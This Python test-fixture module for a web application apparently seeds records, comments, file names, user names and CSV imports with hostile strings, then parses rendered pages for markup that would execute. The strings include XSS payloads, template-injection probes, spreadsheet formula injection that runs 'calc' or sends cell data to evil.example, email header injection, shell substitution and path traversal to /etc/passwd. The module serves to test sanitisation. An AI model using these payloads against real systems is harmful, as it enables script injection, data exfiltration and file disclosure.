"""Texts that were written to do harm, and a network in which every text that can be written holds each of them."""

from collections.abc import Iterator, Sequence
from html.parser import HTMLParser
from typing import Any

from unisono.areas.network import actions, importing
from unisono.areas.network.kinds import KINDS, MEMBER, Kind
from unisono.areas.network.live_links import make_live_link
from unisono.areas.network.models import Network
from unisono.platform.accounts import create_token, ensure_user, give_role, rename_user
from unisono.platform.actor import Actor, actor_of
from unisono.platform.fields import Field, FieldError, Type
from unisono.platform.models import User, Workspace
from unisono.platform.webhooks import add_webhook

_RUN = "window.__ran=1"
TEXTS = (
    f"<script>{_RUN}</script>",
    f'"><img src=x onerror="{_RUN}">',
    f"'><svg/onload='{_RUN}'>",
    f"</title></textarea></script><script>{_RUN}</script>",
    f"<a href=\"javascript:{_RUN}\" onmouseover='{_RUN}'>press</a>",
    f"javascript:{_RUN}//",
    f"<math><mtext><img src=x onerror={_RUN}></mtext></math>",
    f"<!--><img src=x onerror={_RUN}>--><![CDATA[<b>]]>",
    '<iframe src="https://evil.example/"></iframe><link rel=stylesheet href=//evil.example/x.css>',
    "<form action=https://evil.example/><input name=csrfmiddlewaretoken><button>go",
    "<style>*{background:url(https://evil.example/x)}</style><base href=//evil.example/>",
    "{{7*7}}{% load x %}{{ request }}${7*7}#{7*7}<%=7*7%>%(s)s%s{0.__class__}",
    '=HYPERLINK("https://evil.example/?"&A1,"press")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1\r\n=1+1",
    "https://evil.example/ external:\\\\evil.example\\share internal:'x'!A1",
    "\u202egpj.exe\u2066 \u200b\u200d\ufeff invisible\u2028line\u2029paragraph\x85next",
    "null\x00byte \x1b]0;title\x07\x1b[2J\x9b31m bell\x08 del\x7f \ud800 lone",
    "name\r\nBcc: thief@evil.example\r\n\r\nbody\nEND:VCARD\r\nBEGIN:VEVENT",
    '\'";--/**/ \\" \\\\ `id` $(id) | & > ] ]]> </data></node>',
    "../../../etc/passwd%00.txt ..\\..\\con:aux|?*",
    "x" * 60 + " " + "Ä\u0308\u0301\u0316" * 15 + " 🏳️\u200d🌈",
)
# Addresses that a check for addresses lets pass.
URLS = (
    f"https://evil.example/'\"><img/src=x/onerror={_RUN}>",
    "https://evil.example/?a=b;c,d&=HYPERLINK(1)",
    "https://user:pass@evil.example:8443/",
)
EMAILS = ('"<script>window.__ran=1</script>"@evil.example', '"=1+1,;"@evil.example', "+1+1@evil.example")
TEXTUAL = (Type.TEXT, Type.LONG_TEXT, Type.WORDS, Type.URL, Type.EMAIL)


def value_of(field: Field, number: int, kind: str = "x") -> str:
    """A hostile value that the field takes: the text of this number, unless the field asks for an address."""
    tried = [{Type.URL: URLS, Type.EMAIL: EMAILS}.get(field.type, TEXTS)[number % len(TEXTS) % 3]]
    if field.type not in (Type.URL, Type.EMAIL):
        # What is there once, such as a name, differs by its end.
        tail = f" {kind[:4]}{number}"
        tried = [TEXTS[number] + tail, TEXTS[number][: field.max_length - len(tail)] + tail]
    for text in tried:
        try:
            field.parse(text)
        except FieldError:
            continue
        return text
    return ""


def _needed(kind: Kind, field: Field, number: int, ids: dict[str, list[Any]]) -> Any:
    """A value for a field that holds no text."""
    if field.type in (Type.REF, Type.REFS):
        found = ids[field.refers_to]
        one = found[(number + 1) % len(found)] if field.name in ("second", "gathering") else found[0]
        if (kind.name, field.name) in (("participation", "membership"), ("relationship", "second")):
            one = found[number % (len(found) - 1) + 1]
        return [one] if field.type is Type.REFS else one
    return {
        Type.CHOICE: lambda: field.choices[0][0], Type.CHOICES: lambda: [field.choices[0][0]],
        Type.DATE: lambda: "2026-03-12", Type.BOOLEAN: lambda: False, Type.INTEGER: lambda: 1, Type.DECIMAL: lambda: 0,
    }[field.type]()  # fmt: skip


def values_for(kind: Kind, number: int, ids: dict[str, list[Any]]) -> dict[str, Any]:
    """A record of this kind with a hostile text in each field that holds one."""
    values: dict[str, Any] = {}
    for field in kind.fields:
        if field.name in ("visibility", "time_zone"):
            continue
        if field.type in TEXTUAL:
            values[field.name] = value_of(field, number, kind.name)
        elif field.required or (kind.name, field.name) in _WANTED:
            values[field.name] = _needed(kind, field, number, ids)
    return values


# Fields that are not asked for everywhere but needed here: some part, or a tie that the map draws.
_WANTED = {
    ("role", "membership"), ("relationship", "kinds"), ("offering", "owners"), ("agreement", "parties"),
    ("participation", "gathering"),
}  # fmt: skip


def fill(actor: Actor, workspace: Workspace, network: Network) -> dict[str, list[Any]]:
    """Every text of every kind of record, and whatever else people name; gives the records' keys by kind."""
    add: dict[str, Any] = {"actor": actor, "network": network}
    own = [actions.add_custom_field(**add, record_kind="member", label=f"field {text}").name for text in TEXTS]
    ids: dict[str, list[Any]] = {}
    order = ["member", "organization", "person", "gathering", "initiative"]
    for name in [*order, *(name for name in KINDS if name not in order)]:
        kind = KINDS[name]
        ids[name] = []
        for number in range(len(TEXTS)):
            values = values_for(kind, number, ids)
            if kind is MEMBER:
                values |= {f"custom.{name}": TEXTS[number] for name in own}
                record = actions.add_member(**add, values=values, state="active")
            else:
                record = actions.add_record(**add, kind=kind, values=values)
            ids[name].append(record.pk)
    first = ids["member"][0]
    for number, text in enumerate(TEXTS):
        actions.write_comment(**add, kind=MEMBER, record_id=first, text=text)
        actions.save_view(**add, kind=MEMBER, name=f"{text[:80]} v{number}", query="")
        make_live_link(**add, name=f"{text[:80]} l{number}")
        actions.attach_file(
            **add, membership_id=first, name=f"{text}a.txt", title=text[:200],
            chunks=[text.encode("utf-8", "replace")],
        )  # fmt: skip
        create_token(actor=actor, name=f"t {text}")
        if number >= 6:  # A workspace has so many and no more.
            add_webhook(actor=actor, name=f"w {text[:80]}", url="https://example.org/hook")
    for number, text in enumerate(TEXTS[:6]):
        user = ensure_user(email=f"h{number}@example.org")
        give_role(user=user, workspace=workspace, role="contact_person")
        acting = actor_of(user, workspace)
        assert acting is not None
        rename_user(actor=acting, name=text)
        actions.write_comment(
            actor=acting, network=network, kind=MEMBER, record_id=first,
            text=f"@{User.objects.get(pk=actor.user_id).email} {text}",
        )  # fmt: skip
        actions.create_network(actor=actor, values={"name": f"{text} net{number}"})
    return ids


def import_file() -> bytes:
    """A member file whose headings and cells are hostile."""

    def quoted(cells: Sequence[str]) -> str:
        return ",".join('"' + cell.replace('"', '""') + '"' for cell in cells)

    heads = ["Name", *(text.replace("\x00", "").replace("\ud800", "") for text in TEXTS)]
    rows = [[f"{head} row", *heads[1:]] for head in heads[1:]]
    return "\n".join(map(quoted, [heads, *rows])).encode()


def start_import(actor: Actor, network: Network) -> Any:
    """An import of that file, up to the choice of its columns."""
    return importing.start_import(actor=actor, network=network, file=("members.csv", [import_file()]))


class Markup(HTMLParser):
    """What in a page would run or lead elsewhere."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []
        self._script = False
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        given = dict(attrs)
        self._script = tag == "script" and given.get("type") not in ("application/json", "importmap")
        if tag in ("iframe", "math", "base", "style", "object", "embed", "mtext"):
            self.found.append(f"<{tag}>")
        for name, value in attrs:
            text = (value or "").strip().lower()
            leads = name in ("href", "src", "action", "formaction", "xlink:href", "hx-get", "hx-post", "data-url")
            if name.startswith("on") or (leads and text.startswith(("javascript:", "data:", "vbscript:"))):
                self.found.append(f"<{tag} {name}={value}>")
            if name in ("src", "action", "formaction", "hx-get", "hx-post") and "evil.example" in text.split("?")[0]:
                self.found.append(f"<{tag} {name}={value}>")

    def handle_endtag(self, tag: str) -> None:
        self._script = False

    def handle_data(self, data: str) -> None:
        if self._script and data.strip():
            self.found.append(f"script: {data[:60]}")


def controls_in(text: str) -> Iterator[str]:
    """Characters that a terminal obeys, or that turn a line's direction."""
    for letter in text:
        code = ord(letter)
        if (
            (code < 32 and letter not in "\n\t")
            or 127 <= code < 160
            or 0x202A <= code <= 0x202E
            or 0x2066 <= code <= 0x2069
        ):
            yield repr(letter)
